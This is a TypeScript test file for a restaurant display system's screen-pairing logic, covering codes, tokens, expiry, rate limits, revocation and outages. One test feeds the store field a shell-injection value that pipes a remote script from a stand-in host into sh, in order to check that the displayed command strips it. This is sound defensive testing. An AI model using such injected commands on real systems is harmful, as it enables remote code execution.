import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, expect, test, vi } from 'vitest';
import { loadConfig } from '../../contracts/config/config.ts';
import { codeFrom, newCode, newScreenToken, spokenCode } from '../../display/pairing/code.ts';
import { ScreenDoor } from '../../display/pairing/door.ts';
import { needsPairing } from '../../display/pairing/policy.ts';
import type { ScreenRegister } from '../../display/pairing/register.ts';
import { ScreenFile } from '../../edge/kitchen/screen-file.ts';
import { createLogger } from '../../telemetry/logger.ts';

const logger = createLogger('test', 'silent');
const soon = { timeout: 20_000, interval: 20 };

let directory: string;
let file: ScreenFile;
let now: number;
let isDown: boolean;
let removed: string[];
let door: ScreenDoor;

beforeEach(() => {
  directory = mkdtempSync(path.join(tmpdir(), 'ordermesh-screens-'));
  now = Date.now();
  isDown = false;
  removed = [];
  file = new ScreenFile(path.join(directory, 'screens.db'), 'us-il-0001', () => now);
  door = new ScreenDoor({ register: unlessDown(file), logger, onRemoved: (ids) => removed.push(...ids) });
});
afterEach(async () => {
  await door.close();
  rmSync(directory, { recursive: true });
});

function unlessDown(register: ScreenRegister): ScreenRegister {
  const guarded = async <T>(call: () => Promise<T>): Promise<T> => {
    if (isDown) throw new Error('the register is down');
    return call();
  };
  return {
    find: (hash) => guarded(() => register.find(hash)),
    renew: (ids) => guarded(() => register.renew(ids)),
    pairingOf: (hash) => guarded(() => register.pairingOf(hash)),
    openPairing: (pairing) => guarded(() => register.openPairing(pairing)),
    close: () => register.close(),
  };
}

async function waiting(address = '10.0.0.7'): Promise<{ token: string; code: string }> {
  const { token, access } = await door.pair('', undefined, address);
  if (access.access !== 'waiting') throw new Error(`no code: ${access.access}`);
  return { token, code: access.code };
}

test('a code admits one screen, and only the page that was given the token', async () => {
  const { token, code } = await waiting();
  expect(await door.accessOf(token)).toMatchObject({
    access: 'waiting',
    code,
    command: `ordermesh display pair ${code} --chain`,
  });
  // A page that is loaded again keeps its code.
  expect(await door.pair(token, undefined, '10.0.0.7')).toMatchObject({ token, access: { access: 'waiting', code } });
  expect(file.admit(code, 'grill')).toMatchObject({ name: 'grill' });
  expect(file.admit(code, 'thief')).toBeUndefined();
  expect(await door.accessOf(token)).toMatchObject({ access: 'paired', name: 'grill', storeId: 'us-il-0001' });
  expect(await door.accessOf(code)).toEqual({ access: 'unpaired' });
  expect(await door.accessOf(newScreenToken())).toEqual({ access: 'unpaired' });
});

test('the command that a page shows has no text that a shell would act on', async () => {
  for (const [store, option] of [
    ['us-il-0001', '--store us-il-0001'],
    ['x; curl evil | sh', '--store STORE'],
  ]) {
    const { access } = await door.pair('', store, '10.0.0.7');
    expect(access).toMatchObject({
      command: expect.stringMatching(new RegExp(`^ordermesh display pair \\w{6} ${option}$`)),
    });
  }
});

test('a code expires, and its token then admits nothing', async () => {
  const { token, code } = await waiting();
  now += 10 * 60_000;
  expect(file.admit(code, 'late')).toBeUndefined();
  expect(await door.accessOf(token)).toEqual({ access: 'unpaired' });
  const again = await door.pair(token, undefined, '10.0.0.7');
  expect(again.token).not.toBe(token);
});

test('one address cannot use up the codes of all', async () => {
  for (let n = 0; n < 20; n++) await waiting('10.0.0.8');
  expect((await door.pair('', undefined, '10.0.0.8')).access).toEqual({ access: 'full' });
  await waiting('10.0.0.9');
});

test('a removed screen is told within seconds, and must be paired again with another token', async () => {
  const { token, code } = await waiting();
  const screen = file.admit(code, 'grill');
  await door.accessOf(token);
  file.revoke(screen?.screenId ?? '');
  await vi.waitFor(() => expect(removed).toEqual([screen?.screenId]), soon);
  expect(await door.accessOf(token)).toEqual({ access: 'unpaired' });
});

test('an outage keeps paired screens in, and says why new ones wait', async () => {
  const { token, code } = await waiting();
  file.admit(code, 'grill');
  await door.accessOf(token);
  isDown = true;
  expect((await door.pair('', undefined, '10.0.0.7')).access).toMatchObject({ access: 'unknown' });
  expect(door.trouble).toMatch(/screens cannot be looked up: the register is down/);
  expect(await door.accessOf(token)).toMatchObject({ access: 'paired' });
  expect(await door.accessOf(newScreenToken())).toMatchObject({ access: 'unknown' });
  isDown = false;
  await vi.waitFor(() => expect(door.trouble).toBeUndefined(), soon);
  expect(removed).toEqual([]);
});

test('a screen in use is renewed, and one that is not leaves after its time', async () => {
  const { code } = await waiting();
  const used = file.admit(code, 'used');
  const idle = file.admit((await waiting()).code, 'idle');
  now += 60 * 24 * 3_600_000;
  await file.renew([used?.screenId ?? '']);
  now += 60 * 24 * 3_600_000;
  expect(file.list().map(({ screenId }) => screenId)).toEqual([used?.screenId]);
  expect(await file.renew([used?.screenId ?? '', idle?.screenId ?? ''])).toEqual(new Set([used?.screenId]));
});

test('a code is read back as a person types it', () => {
  const code = newCode();
  expect(code).toMatch(/^[2-9A-HJKMNP-TW-Z]{6}$/);
  for (const typed of [code, spokenCode(code), ` ${code.toLowerCase()} `, code.split('').join('-')])
    expect(codeFrom(typed)).toBe(code);
  for (const wrong of ['', 'K7M3Q', 'K7M3QPX', 'K7M3O1', 'K7M3Q!']) expect(codeFrom(wrong)).toBeUndefined();
});

test.each([
  ['auto', '127.0.0.1', false],
  ['auto', '0.0.0.0', true],
  ['on', '127.0.0.1', true],
  ['off', '::1', false],
] as const)('ORDERMESH_DISPLAY_AUTH=%s on %s', (auth, host, expected) => {
  expect(needsPairing(loadConfig({ ORDERMESH_DISPLAY_AUTH: auth, ORDERMESH_HOST: host }))).toBe(expected);
});

test('a display beyond loopback is not opened to all', () => {
  const config = loadConfig({ ORDERMESH_DISPLAY_AUTH: 'off', ORDERMESH_HOST: '10.0.0.7' });
  expect(() => needsPairing(config)).toThrow(/ORDERMESH_DISPLAY_AUTH is off while ORDERMESH_HOST is "10.0.0.7"/);
});
